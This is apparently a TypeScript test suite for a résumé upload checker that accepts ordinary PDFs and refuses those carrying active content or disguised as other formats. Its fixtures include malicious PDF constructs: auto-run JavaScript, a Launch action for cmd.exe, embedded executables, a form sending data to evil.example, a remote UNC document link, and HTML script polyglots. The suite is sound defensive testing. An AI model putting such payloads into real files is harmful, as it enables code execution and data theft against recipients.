import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { startCpuTimer } from '@mohar/check/tests/cpu-time.ts';
import { runTool } from '@mohar/check/tests/external-tools/run-tool.ts';
import { propertyOptions, propertyTimeout } from '@mohar/check/tests/property-options.ts';
import fc from 'fast-check';
import PdfKit from 'pdfkit';
import { expect, test } from 'vitest';
import { inspectDocument } from '#media/uploads/inspect-document.ts';
import { makePage, makePdf, makeStream, updatePdf } from '#tests/files/pdf.ts';
import { pdfOfSize } from '#tests/resumes.ts';

const pdf = { kind: 'pdf', isActive: false };
const format = undefined;
const active = { kind: 'pdf', isActive: true };
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>';
const page = makePage();

function runQpdf(bytes: Uint8Array, ...options: readonly string[]): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'resume-'));
  try {
    const target = join(folder, 'out.pdf');
    runTool('qpdf', { 'in.pdf': bytes }, [...options, 'in.pdf', target]);
    return readFileSync(target);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

async function drawWithPdfkit(attach = false): Promise<Buffer> {
  const document = new PdfKit({ info: { Title: 'HTML/CSS/JavaScript/JS (1)' } });
  document.text('Ravi Kumar, HTML/JavaScript developer').text('ravi.example.in', { link: 'https://ravi.example.in' });
  if (attach) document.file(Buffer.from('MZ'), { name: 'a.exe' });
  document.end();
  return buffer(document);
}

async function drawWithPdfLib(script = '', pages = 1): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.setTitle('Ravi (\\ Kumar), HTML/JavaScript');
  for (let page = 1; page <= pages; page++) document.addPage().drawText(`Ravi Kumar, ${page}`);
  if (script) document.addJavaScript('main', script);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

/** With another page, behind the bytes as they are. */
async function updateWithPdfLib(bytes: Buffer): Promise<Buffer> {
  const document = await PDFDocument.load(bytes, { forIncrementalUpdate: true });
  document.addPage().drawText('A page more');
  return Buffer.from(await document.save());
}

test('PDFs of several producers are accepted', async () => {
  const kit = await drawWithPdfkit();
  const files = {
    page,
    kit,
    'PDF 1.0': makePdf(['<< /Type /Catalog >>'], '1.0'),
    'PDF 2.0': makePdf(['<< /Type /Catalog >>'], '2.0'),
    'xref stream and object streams (pdf-lib)': await drawWithPdfLib(),
    'many object streams (pdf-lib)': await drawWithPdfLib('', 120),
    'incremental update with object streams (pdf-lib)': await updateWithPdfLib(await drawWithPdfLib('', 120)),
    'xref stream and object streams (qpdf)': runQpdf(kit, '--object-streams=generate'),
    linearised: runQpdf(kit, '--linearize'),
    'linearised with object streams': runQpdf(kit, '--linearize', '--object-streams=generate'),
    uncompressed: runQpdf(kit, '--qdf'),
    'object streams that are not compressed (qpdf)': runQpdf(kit, '--object-streams=generate', '--compress-streams=n'),
    encrypted: runQpdf(kit, '--encrypt', '', 'owner', '256', '--'),
    'encrypted with object streams': runQpdf(kit, '--object-streams=generate', '--encrypt', '', 'o', '256', '--'),
    'encrypted and linearised': runQpdf(
      kit,
      '--linearize',
      '--object-streams=generate',
      '--encrypt',
      '',
      'o',
      '256',
      '--',
    ),
    'incremental update': updatePdf(page, font),
    'two incremental updates': updatePdf(updatePdf(page, font), font),
    'incremental update of a linearised file': updatePdf(runQpdf(kit, '--linearize'), font),
    'lines that end in CR LF after the end': Buffer.concat([page, Buffer.from('\r\n\r\n')]),
    'no line end after the end': page.subarray(0, page.lastIndexOf('%%EOF') + 5),
    'the rest of a block after the end': Buffer.concat([page, Buffer.alloc(1_024)]),
    'exactly 5 MB': pdfOfSize(5 * 1_048_576),
  };
  for (const [what, bytes] of Object.entries(files)) expect([what, await inspectDocument(bytes)]).toEqual([what, pdf]);
});

const packed = (text: string, more = '') =>
  makePage('', [makeStream(`/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode ${more}`, deflateSync(`9 0  ${text}`))]);
test.each([
  ['a script when it is opened', makePage('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
  ['a script in a name tree', makePage('/Names << /JavaScript 6 0 R >>')],
  ['a script in another object', makePage('/OpenAction 6 0 R', ['<</S/JavaScript/JS 7 0 R>>'])],
  ['a script of a rendition', makePage('/AA << /O << /S /Rendition /JS 6 0 R >> >>')],
  ['a script in escaped characters', makePage('/OpenAction << /S /J#61vaScr#69pt >>')],
  ['a script after a comment', makePage('/OpenAction %x (\n << /S /JavaScript >>')],
  ['a script in an object within a stream', makePage('', [makeStream('', 'x\n9 0 obj\n<< /S /JavaScript >>\nendobj')])],
  ['a script in an object with a comment in its head', makePage('', [makeStream('', '9 0 %x\nobj<</S/JavaScript>>')])],
  [
    'a script in a trailer',
    Buffer.concat([
      page,
      Buffer.from('trailer\n<< /Root << /OpenAction << /S /JavaScript >> >> >>\n'),
      page.subarray(page.lastIndexOf('startxref')),
    ]),
  ],
  ['a program', makePage('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['an embedded file', makePage('', [makeStream('/Type /EmbeddedFile', 'MZ')])],
  ['embedded files', makePage('/Names << /EmbeddedFiles 6 0 R >>')],
  ['an attached file without a type', makePage('/Annots [<< /Subtype /FileAttachment >>]')],
  [
    'a file specification that holds a file',
    makePage('/A << /F (a.exe) /EF << /F 6 0 R >> >>', [makeStream('', 'MZ')]),
  ],
  ['a form that sends data', makePage('/A << /S /SubmitForm /F (https://evil.example) >>')],
  ['a form that loads data', makePage('/A << /S /ImportData /F (a.fdf) >>')],
  ['a document in a document', makePage('/A << /S /GoToE >>')],
  ['a rendition', makePage('/A << /S /Rendition >>')],
  ['another document to open', makePage('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>')],
  ['a film of old', makePage('/Annots [<< /Subtype /Movie /Movie << /F (a.avi) >> /A true >>]')],
  ['a sound', makePage('/A << /S /Sound /Sound 6 0 R >>')],
  ['a collection of files', makePage('/Collection << /View /D >>')],
  ['3D', makePage('/Annots [<< /Subtype /3D /3DD 6 0 R >>]')],
  ['a script of a 3D stream', makePage('/A 6 0 R', [makeStream('/Subtype /U3D /OnInstantiate 7 0 R', 'U3D')])],
  ['a film', makePage('/Annots [<< /Subtype /RichMedia >>]')],
  ['a script in an update', updatePdf(page, '<< /S /JavaScript >>')],
  ['a script in an object stream', packed('<< /S /JavaScript /JS (x) >>')],
])('a PDF with %s is refused as active content', async (_what, bytes) => {
  expect(await inspectDocument(bytes)).toEqual(active);
});

test('scripts and attachments of several producers are refused as active content', async () => {
  expect(await inspectDocument(await drawWithPdfkit(true))).toEqual(active);
  const script = makePage('/OpenAction << /S /JavaScript /JS (x) >>');
  expect(await inspectDocument(runQpdf(script, '--linearize'))).toEqual(active);
  expect(await inspectDocument(runQpdf(script, '--object-streams=generate'))).toEqual(active);
  expect(await inspectDocument(await drawWithPdfLib('app.alert(1)'))).toEqual(active);
});

const text = page.toString('latin1');
const replace = (from: string | RegExp, to: string) => Buffer.from(text.replace(from, to), 'latin1');
test.each([
  ['a page in HTML', Buffer.from('%PDF-<script>alert(1)</script>')],
  ['a page in HTML with an end', replace('%PDF-1.7', '%PDF-<script>')],
  ['a header without an end', replace('%PDF-1.7\n', '%PDF-1.7<script>\n')],
  ['PDF 3', replace('%PDF-1.7', '%PDF-3.0')],
  ['PDF 1.9', replace('%PDF-1.7', '%PDF-1.9')],
  ['no startxref', replace('startxref', 'startxxxx')],
  ['no number', replace(/startxref\n[0-9]+/, 'startxref\n')],
  ['no %%EOF', replace('%%EOF', '%%EOX')],
  ['an offset beyond the file', replace(/startxref\n[0-9]+/, 'startxref\n9999999')],
  ['an offset at something else', replace(/startxref\n[0-9]+/, 'startxref\n20')],
  ['more than 2 kB behind its end', Buffer.concat([page, Buffer.alloc(2_048, 0x41)])],
  ['more than 2 kB of blanks behind its end', Buffer.concat([page, Buffer.alloc(2_049)])],
  ['an archive behind its end', Buffer.concat([page, Buffer.from('PK\x03\x04')])],
  ['a page in HTML behind its end', Buffer.concat([page, Buffer.from('<script>alert(1)</script>')])],
  ['a page in HTML between two ends', Buffer.concat([page, Buffer.from('<script>alert(1)</script>\n%%EOF\n')])],
  ['its header alone', Buffer.from('%PDF-1.7\n')],
])('%s is no PDF', async (_what, bytes) => {
  expect(await inspectDocument(bytes)).toEqual(format);
});

const size = 5 * 1_048_576;
const fill = (unit: string, head = '') => Buffer.from((head + unit.repeat(size)).slice(0, size), 'latin1');
test.each([
  ['objects', fill('1 0 obj ')],
  ['objects in a string', fill('1 0 obj(')],
  ['dictionaries', fill('1 0 obj<</A<<>>/B[]>>')],
  ['dictionaries in one another', fill('1 0 obj<</A')],
  ['arrays', fill('[]', '1 0 obj ')],
  ['comments before objects', fill('%\nobj ')],
  ['names', fill('/a#61', '1 0 obj ')],
  ['spaces', fill(' ', '1 0 obj ')],
  ['digits', fill('1')],
  ['trailers', fill('trailer ')],
  ['object streams', fill('1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nx ')],
])('5 MB of %s take little time', async (_what, bytes) => {
  const whole = Buffer.concat([page, bytes.subarray(0, size - 2 * page.length), page]);
  const cpuTime = startCpuTimer();
  await inspectDocument(whole);
  // 100 ms warm, more while the code is compiled; quadratic time would take minutes.
  expect(cpuTime()).toBeLessThan(2_000);
});

test(
  'whatever bytes of a PDF are changed, it gets an answer',
  async () => {
    const change = fc.tuple(fc.nat(page.length - 1), fc.nat(255));
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 20 }), async (changes) => {
        const bytes = Buffer.from(page);
        for (const [at, value] of changes) bytes[at] = value;
        expect([undefined, false, true]).toContain((await inspectDocument(bytes))?.isActive);
      }),
      propertyOptions(100_000),
    );
  },
  propertyTimeout,
);
